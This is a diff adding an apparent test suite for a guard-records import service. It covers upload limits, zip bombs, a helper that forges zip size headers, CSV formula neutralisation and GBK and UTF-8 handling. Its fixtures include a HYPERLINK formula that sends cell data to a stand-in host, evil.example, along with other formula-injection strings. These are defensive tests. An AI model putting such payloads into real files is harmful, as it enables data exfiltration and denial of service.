@@ -1,0 +1,193 @@
+import ExcelJS from 'exceljs';
+import * as iconv from 'iconv-lite';
+import JSZip from 'jszip';
+import { ParsePool, readTable } from '../../src/infra/tabular/tabular';
+import type { AppConfig } from '../../src/config/config';
+import { auth, seedMinimal, startApp, TestApp } from '../support/harness';
+
+const MAX_ROWS = 2000;
+const MAX_UNZIPPED = 8 * 1024 * 1024;
+
+/** supertest: collect a binary response body. */
+const binary = ((res: NodeJS.ReadableStream, cb: (e: Error | null, b: Buffer) => void) => {
+  const chunks: Buffer[] = [];
+  res.on('data', (c: Buffer) => chunks.push(c));
+  res.on('end', () => cb(null, Buffer.concat(chunks)));
+}) as never;
+
+/** An XLSX of guards with `rows` data rows, its sheet XML optionally rewritten (dimension removed, padding added). */
+async function guardsXlsx(rows: number, rewrite?: (sheetXml: string) => string): Promise<Buffer> {
+  const wb = new ExcelJS.Workbook();
+  const ws = wb.addWorksheet('Sheet1');
+  ws.addRow(['licenceNo', 'name', 'schoolCode']);
+  for (let i = 0; i < rows; i++) ws.addRow([`X-${String(i).padStart(7, '0')}`, '张伟', 'SA']);
+  const buf = Buffer.from(await wb.xlsx.writeBuffer());
+  if (!rewrite) return buf;
+  const zip = await JSZip.loadAsync(buf);
+  const path = 'xl/worksheets/sheet1.xml';
+  zip.file(path, rewrite(await zip.file(path)!.async('string')));
+  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
+}
+
+/** Rewrites the uncompressed size an entry declares (local header and central directory): a zip that lies about its size. */
+function lieAboutSize(zip: Buffer, name: string, size: number): Buffer {
+  const out = Buffer.from(zip);
+  const nameBytes = Buffer.from(name);
+  for (let i = 0; i < out.length - 46; i++) {
+    const sig = out.readUInt32LE(i);
+    if (sig === 0x04034b50 && out.subarray(i + 30, i + 30 + nameBytes.length).equals(nameBytes)) out.writeUInt32LE(size, i + 22);
+    if (sig === 0x02014b50 && out.subarray(i + 46, i + 46 + nameBytes.length).equals(nameBytes)) out.writeUInt32LE(size, i + 24);
+  }
+  return out;
+}
+
+/**
+ * Uploads cannot freeze or starve the service (issue 12 §3), CSV exports carry no formulas
+ * (§4), and CSV text in a legacy code page is read in its encoding or refused, never stored as
+ * mojibake (§13).
+ */
+describe('hostile and awkward uploads', () => {
+  let t: TestApp;
+  let admin: string;
+  let staff: string;
+
+  beforeAll(async () => {
+    t = await startApp({ import: { maxRows: MAX_ROWS, maxUnzippedBytes: MAX_UNZIPPED, maxFileBytes: 8 * 1024 * 1024 } });
+    admin = (await t.userToken('admin')).token;
+    const seed = await seedMinimal(t, admin);
+    staff = (await t.userToken('school_security', seed.schoolA.id)).token;
+  });
+  afterAll(() => t.close());
+
+  const upload = (kind: string, body: Buffer | string, query = '?dryRun=true', token = staff) =>
+    t
+      .http()
+      .post(`/api/v1/import/${kind}${query}`)
+      .set(auth(token))
+      .attach('file', Buffer.isBuffer(body) ? body : Buffer.from(body, 'utf8'), 'file');
+
+  describe('limits are enforced while reading, not after', () => {
+    it('refuses an XLSX whose declared dimension is past the row limit before reading its rows', async () => {
+      const res = await upload('guards', await guardsXlsx(MAX_ROWS + 5));
+      expect([res.status, res.body.error.code, res.body.error.details]).toEqual([400, 'IMPORT.TOO_MANY_ROWS', { maxRows: MAX_ROWS, rows: `>${MAX_ROWS}` }]);
+    });
+
+    it('stops at the row limit of an XLSX that does not declare its dimension', async () => {
+      const file = await guardsXlsx(MAX_ROWS + 5, (xml) => xml.replace(/<dimension [^>]*\/>/, ''));
+      const res = await upload('guards', file);
+      expect([res.status, res.body.error.code]).toEqual([400, 'IMPORT.TOO_MANY_ROWS']);
+      // One row fewer is fine.
+      expect((await upload('guards', await guardsXlsx(MAX_ROWS, (xml) => xml.replace(/<dimension [^>]*\/>/, '')))).body).toMatchObject({ rows: MAX_ROWS });
+    });
+
+    it('refuses a zip bomb by its declared size, and one that lies about it by what it inflates to', async () => {
+      const padding = ' '.repeat(4 * MAX_UNZIPPED);
+      const bomb = await guardsXlsx(3, (xml) => xml.replace('<sheetData>', `<sheetData>${padding}`));
+      expect(bomb.length).toBeLessThan(200 * 1024); // a small upload…
+      const res = await upload('guards', bomb);
+      expect([res.status, res.body.error.code]).toEqual([400, 'IMPORT.TOO_LARGE_CONTENT']);
+      const liar = lieAboutSize(bomb, 'xl/worksheets/sheet1.xml', 4096);
+      const lied = await upload('guards', liar);
+      expect([lied.status, lied.body.error.code]).toEqual([400, 'IMPORT.TOO_LARGE_CONTENT']);
+    });
+
+    it('refuses a row wider than import.maxColumns', async () => {
+      const res = await upload('guards', `licenceNo,name,schoolCode\nW-0001,张伟,SA${',x'.repeat(100)}\n`);
+      expect([res.status, res.body.error.code, res.body.error.details.row]).toEqual([400, 'IMPORT.TOO_LARGE_CONTENT', 2]);
+    });
+
+    it('keeps answering other requests while a large file is imported', async () => {
+      const lines = ['licenceNo,name,schoolCode', ...Array.from({ length: MAX_ROWS }, (_, i) => `L-${String(i).padStart(7, '0')},张伟${i},SA`)];
+      const big = lines.join('\n').repeat(1); // MAX_ROWS rows: at the limit, accepted
+      let done = false;
+      const importing = upload('guards', big).then((r) => {
+        done = true;
+        return r;
+      });
+      let answered = 0;
+      while (!done) {
+        const res = await t.http().get('/health/live');
+        if (res.status === 200 && !done) answered++;
+      }
+      expect((await importing).body).toMatchObject({ rows: MAX_ROWS, created: MAX_ROWS, dryRun: true });
+      expect(answered).toBeGreaterThan(0);
+    });
+
+    it('refuses a file with 503 and Retry-After when every parser is busy and the queue is full', async () => {
+      const pool = new ParsePool({ import: { ...t.config.import, parseWorkers: 1, parseQueue: 0 } } as AppConfig);
+      try {
+        const file = Buffer.from('licenceNo,name,schoolCode\nB-0001,张伟,SA\n');
+        const first = pool.read(file);
+        await expect(pool.read(file)).rejects.toMatchObject({ status: 503, code: 'IMPORT.BUSY', details: { retryAfterSeconds: expect.any(Number) } });
+        await expect(first).resolves.toMatchObject({ rows: [{ line: 2, cells: ['B-0001', '张伟', 'SA'] }] });
+        await expect(pool.read(file)).resolves.toMatchObject({ encoding: 'UTF-8' }); // free again
+      } finally {
+        await pool.onModuleDestroy();
+      }
+    });
+  });
+
+  describe('CSV exports carry no formulas', () => {
+    const NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+1', '-2+3', '@SUM(1)', '=1+2'];
+
+    it('neutralises every cell a spreadsheet would run, and re-import strips the guard', async () => {
+      const csv = ['licenceNo,name,schoolCode,phone', ...NAMES.map((n, i) => `F-000${i},"${n.replace(/"/g, '""')}",SA,+86-23-1234`)].join('\n');
+      expect((await upload('guards', csv, '', admin)).body).toMatchObject({ created: NAMES.length });
+      const exported = await t.http().get('/api/v1/export/guards').set(auth(admin)).buffer(true).parse(binary).expect(200);
+      const table = await readTable(exported.body as Buffer, { maxRows: 100, maxColumns: 20, maxUnzippedBytes: 1e6, charsetMinScore: 0.8 });
+      const raw = (exported.body as Buffer).toString('utf8');
+      for (const n of NAMES) expect(raw).not.toMatch(new RegExp(`(^|,)"?${n.slice(0, 3).replace(/[+()=@-]/g, '\\$&')}`, 'm'));
+      expect(raw).toContain(`'=HYPERLINK`);
+      expect(raw).toContain(`'+86-23-1234`);
+      // Re-import: the guard is stripped, nothing changes.
+      expect((await upload('guards', exported.body as Buffer, '', admin)).body).toMatchObject({ created: 0, updated: 0 });
+      const { rows } = await t.db.query(`SELECT name, phone FROM guards WHERE licence_no LIKE 'F-%' ORDER BY licence_no`);
+      expect(rows.map((r) => r.name)).toEqual(NAMES);
+      expect(rows[0].phone).toBe('+86-23-1234');
+      expect(table.rows.length).toBeGreaterThanOrEqual(NAMES.length);
+    });
+  });
+
+  describe('CSV text encodings', () => {
+    const csv = 'licenceNo,name,schoolCode\nE-0001,围墙,SA\nE-0002,校园,SA\nE-0003,小学楼,SA\n';
+
+    it("reads the issue's GBK file without BOM (bytes that are also valid UTF-8) as GBK, and shows it in the dry run", async () => {
+      const gbk = iconv.encode(csv, 'gbk');
+      expect(() => new TextDecoder('utf-8', { fatal: true }).decode(gbk)).not.toThrow(); // the trap: valid UTF-8
+      const res = await upload('guards', gbk).expect(200);
+      expect(res.body).toMatchObject({ dryRun: true, rows: 3, encoding: 'GB18030' });
+      expect(res.body.preview).toEqual({
+        header: ['licenceNo', 'name', 'schoolCode'],
+        rows: [
+          { line: 2, cells: ['E-0001', '围墙', 'SA'] },
+          { line: 3, cells: ['E-0002', '校园', 'SA'] },
+          { line: 4, cells: ['E-0003', '小学楼', 'SA'] },
+        ],
+      });
+      await upload('guards', gbk, '').expect(200);
+      const { rows } = await t.db.query(`SELECT name FROM guards WHERE licence_no LIKE 'E-%' ORDER BY licence_no`);
+      expect(rows.map((r) => r.name)).toEqual(['围墙', '校园', '小学楼']);
+    });
+
+    it('reads UTF-8 with and without a BOM', async () => {
+      const plain = (await upload('guards', Buffer.from(csv, 'utf8')).expect(200)).body;
+      expect([plain.encoding, plain.preview.rows[0].cells]).toEqual(['UTF-8', ['E-0001', '围墙', 'SA']]);
+      expect((await upload('guards', '\uFEFF' + csv).expect(200)).body.encoding).toBe('UTF-8 (BOM)');
+    });
+
+    it('refuses, asking for UTF-8, when the encoding cannot be told or is not one we read', async () => {
+      const cases = {
+        big5: iconv.encode(csv.replace('围墙', '圍牆'), 'big5'),
+        shiftJis: iconv.encode(csv.replace('围墙', '東京の学校'), 'shift_jis'),
+        ambiguous: Buffer.from('licenceNo,name,schoolCode\nE-0009,Café Système,SA\n', 'utf8'),
+      };
+      for (const [what, bytes] of Object.entries(cases)) {
+        const res = await upload('guards', bytes);
+        expect([what, res.status, res.body.error?.code]).toEqual([what, 400, 'IMPORT.UNSURE_ENCODING']);
+        expect(res.body.error.message).toContain('UTF-8');
+      }
+      const { rows } = await t.db.query(`SELECT count(*)::int AS n FROM guards WHERE licence_no = 'E-0009'`);
+      expect(rows[0].n).toBe(0);
+    });
+  });
+});
